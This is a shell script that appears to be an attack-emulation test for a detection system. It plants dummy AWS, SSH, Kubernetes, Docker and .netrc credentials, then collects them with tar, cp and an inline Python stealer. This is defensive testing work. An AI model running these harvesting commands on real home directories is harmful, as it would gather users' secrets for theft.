#!/bin/bash
# desc: a user's secrets collected in one go: tar of ~/.ssh ~/.aws ~/.kube ~/.docker, cp -r of them into a staging directory, a python stealer walking the home directory for known credential files
# mitre: T1552.001, T1552.004, T1119, T1560.001
# expect: credential_files_read_in_burst*3
source "$ATTACK_LIB"

h=$ATTACK_HOME
install -d -m 700 -o "$ATTACK_UID" -g "$ATTACK_GID" "$h/.aws" "$h/.ssh" "$h/.kube" "$h/.docker"
undo "rm -rf '$h/.aws' '$h/.ssh' '$h/.kube' '$h/.docker' '$h/.netrc'"
printf '[default]\naws_secret_access_key = x\n' >"$h/.aws/credentials"
printf '[default]\nregion = eu-west-1\n' >"$h/.aws/config"
printf 'apiVersion: v1\nkind: Config\n' >"$h/.kube/config"
printf '{"auths": {}}\n' >"$h/.docker/config.json"
printf 'machine example.org login a password b\n' >"$h/.netrc"
ssh-keygen -q -t ed25519 -N '' -f "$h/.ssh/id_ed25519" >/dev/null
chown -R "$ATTACK_UID:$ATTACK_GID" "$h/.aws" "$h/.ssh" "$h/.kube" "$h/.docker" "$h/.netrc"

mkdir -p stage && chown "$ATTACK_UID:$ATTACK_GID" stage
as_user tar -C "$h" -czf "$ATTACK_TMP/stage/loot.tgz" .ssh .aws .kube .docker .netrc
as_user cp -r "$h/.ssh" "$h/.aws" "$h/.kube" "$h/.docker" "$ATTACK_TMP/stage/"
as_user /usr/bin/python3 - "$h" <<'PY'
import os, sys
loot = []
for root, dirs, files in os.walk(sys.argv[1]):
    for f in files:
        if f in ("credentials", "config", "config.json", "id_ed25519", ".netrc"):
            with open(os.path.join(root, f), "rb") as fh:
                loot.append(fh.read())
print(len(loot))
PY
